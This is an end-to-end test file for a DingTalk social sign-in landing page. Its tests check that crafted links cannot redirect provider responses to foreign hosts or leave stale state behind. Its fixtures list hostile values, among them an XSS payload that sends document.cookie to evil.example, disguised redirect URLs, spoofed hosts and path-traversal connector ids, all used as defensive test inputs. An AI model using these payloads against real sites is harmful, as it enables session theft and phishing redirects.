import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { pageAddress } from './support/page-address.ts';
import { ProviderPage } from './support/provider-page.ts';
import { needs, onlyEmbedded } from './support/real-limits.ts';
import type { Fixtures } from './support/e2e-suite.ts';
import { e2eSuite } from './support/e2e-suite.ts';
import { until } from './support/until.ts';

const { withPage } = e2eSuite();

/** The address at the provider of a sign-in that the attacker began in a browser of their own. */
async function beginAttack({ another, setup }: Fixtures): Promise<string> {
  onlyEmbedded(needs.standIns);
  const attacker = await another();
  await attacker.visit(setup.appAddress);
  await attacker.press('Sign in');
  await attacker.press('Continue with DingTalk');
  await new ProviderPage(attacker).see('DingTalk');
  return (await attacker.address()).href;
}

const landingAddress = (origin: string, parameters: Record<string, string>, connectorId = 'dingtalk-web') =>
  `${origin}/social/landing/${connectorId}?${new URLSearchParams(parameters).toString()}`;

const stored = ({ page }: Pick<Fixtures, 'page'>) =>
  page.evaluate(() => JSON.stringify([sessionStorage, localStorage].map((storage) => Object.entries(storage))));

/** Follows a link and waits until the page has decided what to do with it. */
async function followHostile({ I, page }: Fixtures, address: string): Promise<void> {
  await I.visit(address);
  await until('an end of it', () =>
    page.$('sign-in-experience[data-step=error], sign-in-experience[data-step=sign-in], dialog[open]'),
  );
}

const callbacks = [
  'https:evil.example/x',
  'https:///evil.example/x',
  'https:\\\\evil.example\\x',
  'https://evil.example/x',
  'http:evil.example',
  ' https:evil.example',
  '\u0001https:evil.example',
  'ht\ntps:evil.example',
  '//evil.example',
  'https://localhost@evil.example/',
  'feed:https://evil.example',
  'jar:https://evil.example!/x',
  'intent://evil.example#Intent;scheme=https;end',
  'microsoft-edge:https://evil.example',
  'javascript:fetch("//evil.example?"+document.cookie)',
  'data:text/html,x',
  'evil:x',
];

describe('A link from an attacker', () => {
  it(
    'never receives the response of a provider, however its address is spelled',
    withPage(async (fixtures) => {
      const { I, setup, page } = fixtures;
      const redirectTo = await beginAttack(fixtures);
      for (const callback of [...callbacks, `${setup.origin}/demo-app`]) {
        await followHostile(fixtures, landingAddress(setup.origin, { redirect_to: redirectTo, native_callback: callback }));
        const where = `${JSON.stringify(callback)} led to ${page.url()}`;
        assert.equal(new URL(page.url()).origin, setup.origin, where);
        assert.equal(await page.$('dialog[open]'), null, where);
        await I.see('The next address is not safe to open');
        assert.doesNotMatch(await stored(fixtures), /evil|demo-app"/, where);
      }
      // What the provider answers to the attacker's own question goes nowhere either.
      await I.visit(redirectTo);
      await new ProviderPage(I).allowAs('chen');
      await I.seeHeading('Sign in to your account');
      await I.seeAlert('The authorization is invalid');
      await I.seeAddress(/^\/sign-in/);
    }),
  );

  it(
    'leads to no foreign page without a question that names the host',
    withPage(async (fixtures) => {
      const { I, setup, page } = fixtures;
      onlyEmbedded(needs.standIns);
      const native_callback = 'com.example.app://callback';
      for (const [redirect_to, host] of [
        ['https://evil.example/x', 'evil.example'],
        ['https://login.dingtalk.com.evil.example/oauth2/auth', 'login.dingtalk.com.evil.example'],
        [`${setup.origin}/inbox`, new URL(setup.origin).host],
      ] as const) {
        await followHostile(fixtures, landingAddress(setup.origin, { redirect_to, native_callback }));
        assert.equal(new URL(page.url()).pathname, '/social/landing/dingtalk-web');
        await I.see(`To sign in with DingTalk you will be sent to ${host}.`);
        await I.press('Cancel');
        await I.seeHeading('Not continued');
        await I.press('Back to sign in');
        await I.seeHeading('Sign in to your account');
        assert.doesNotMatch(await stored(fixtures), /com\.example\.app/);
      }
      await followHostile(fixtures, landingAddress(setup.origin, { redirect_to: `${setup.origin}/inbox`, native_callback }));
      await I.press('Continue');
      await until('the page that the person agreed to', async () => new URL(page.url()).pathname === '/inbox');
    }),
  );

  it(
    'is refused where its connector does not exist, or its address is no http(s) URL',
    withPage(async (fixtures) => {
      const { I, setup } = fixtures;
      const native_callback = 'com.example.app://callback';
      for (const connectorId of ['nobody', 'alipay-native', '__proto__', 'dingtalk-web%2F..']) {
        await followHostile(
          fixtures,
          landingAddress(setup.origin, { redirect_to: 'https://evil.example', native_callback }, connectorId),
        );
        await I.see('This address does not lead to a way to sign in.');
      }
      for (const redirect_to of [
        'javascript:alert(1)',
        'https:evil.example',
        'https://a@evil.example',
        'data:text/html,x',
        'feed:https://evil.example',
      ]) {
        await followHostile(fixtures, landingAddress(setup.origin, { redirect_to, native_callback }));
        await I.see('The next address is not safe to open');
      }
    }),
  );

  it(
    'stores nothing that redirects a later sign-in',
    withPage(async (fixtures) => {
      const { I, app, setup } = fixtures;
      const redirectTo = await beginAttack(fixtures);
      await app.startSignIn();
      const landing = landingAddress(setup.origin, { redirect_to: redirectTo, native_callback: 'com.evil.app://callback' });
      await followHostile(fixtures, landing);
      await I.press('Continue');
      await new ProviderPage(I).see('DingTalk');
      // The person does not go on with that, but signs in by themselves.
      await app.startSignIn();
      assert.doesNotMatch(await stored(fixtures), /com\.evil\.app/);
      await I.press('Continue with DingTalk');
      await new ProviderPage(I).allowAs('chen');
      await app.seeSignedIn({ username: 'chen' });
    }),
  );

  it(
    'puts nobody’s address on an account of the sender, whose link began anew in another tab',
    withPage(async (fixtures) => {
      const { I, app, qa, setup } = fixtures;
      onlyEmbedded(needs.standIns);
      await qa.settings({ signUp: { identifiers: ['email'], password: true, verify: true }, forgotPasswordMethods: [] });
      await app.startSignIn();
      await I.signInWithPassword(setup.people.short);
      await I.seeHeading('Link email');
      await qa.addUser({ username: 'mallory', primaryEmail: 'mallory@evil.example' });
      const { token } = await qa.magicLink('mallory@evil.example');
      const tab = await I.openTab();
      await tab.visit(
        pageAddress(setup, `/one-time-token?one_time_token=${token}&login_hint=${encodeURIComponent('mallory@evil.example')}`),
      );
      await tab.seeHeading('Set password');
      await I.type('identifier', setup.stranger.email);
      await I.press('Continue');
      await I.seeHeading('Sign in to your account');
      await I.seeAlert('That could not be completed. Please start again.');
      assert.deepEqual(await qa.outbox(setup.stranger.email), []);
    }),
  );
});
